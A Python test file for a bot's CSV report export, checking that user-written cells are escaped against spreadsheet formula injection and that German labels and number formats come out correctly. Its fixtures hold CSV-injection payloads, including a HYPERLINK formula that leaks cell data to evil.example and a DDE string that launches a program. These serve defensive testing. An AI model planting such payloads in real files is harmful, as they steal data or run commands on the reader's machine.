"""The report's CSV: in the admin's language, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io

from bot.i18n import translator
from bot.services.report_csv import csv_text
from bot.services.reports import Period, Ratings, Report, SkillFigure, Slice, TrendPoint

OCTOBER = Period("2026-10", "month", dt.date(2026, 10, 1), dt.date(2026, 11, 1))


def _report() -> Report:
    report = Report(team_id="T0001", period=OCTOBER, k=5, mentors=12, mentees=12)
    report.ratings = Ratings(
        respondents=12, answers=12, distribution=(0, 1, 2, 4, 5), average=4.0833
    )
    report.polls = 24
    report.respondents = 12
    report.skills = [SkillFigure("=cmd", 0, 3)]
    report.departments = [Slice("other", 12, {})]
    report.departments_hidden = True
    report.comments = {"learned": 12}
    report.themes = {
        "learned": [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "Prompting, step by step",
            "beginning",
        ]
    }
    report.trend = [TrendPoint("2026-10", 2, None, None, 4.0833)]
    return report


def _rows(text: str, delimiter: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_cells_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
    rows = _rows(csv_text(_report(), translator("en"), lambda key: key), ",")
    comments = [row[3] for row in rows if row[2] == "comment"]
    assert comments == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "Prompting, step by step",
        "beginning",
    ]
    # A skill label (or a department name) is text from people too.
    assert any(row[1] == "'=cmd" for row in rows)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_a_german_admin_gets_german_labels_semicolons_and_decimal_commas() -> None:
    rows = _rows(csv_text(_report(), translator("de"), lambda key: key), ";")
    assert rows[0] == ["Abschnitt", "Gruppe", "Kennzahl", "Wert", "Schlüssel"]
    by_key = {row[4]: row for row in rows[1:] if row[2] != "Kommentar"}
    assert by_key["satisfaction/all/average"][:4] == [
        "Zufriedenheit",
        "alle",
        "durchschnittliche Bewertung (1-5)",
        "4,083",
    ]
    assert by_key["trend/2026-10/met"][3] == "ausgeblendet (weniger als k)"
    assert by_key["participation/all/mentors"][3] == "12"
    english = {row[4]: row for row in _rows(csv_text(_report(), translator("en"), str), ",")[1:]}
    assert english["satisfaction/all/average"][3] == "4.083"
    assert english.keys() == {row[4] for row in rows[1:]}  # the same keys in every language


def test_a_department_named_other_is_not_the_hidden_remainder() -> None:
    rows = _rows(csv_text(_report(), translator("en"), str), ",")
    people = {row[4]: (row[1], row[3]) for row in rows if row[0] == "Participation"}
    assert people["participation/department:other/people"] == ("department: other", "12")
    assert people["participation/hidden:department/people"] == (
        "smaller groups together",
        "hidden (fewer than k)",
    )
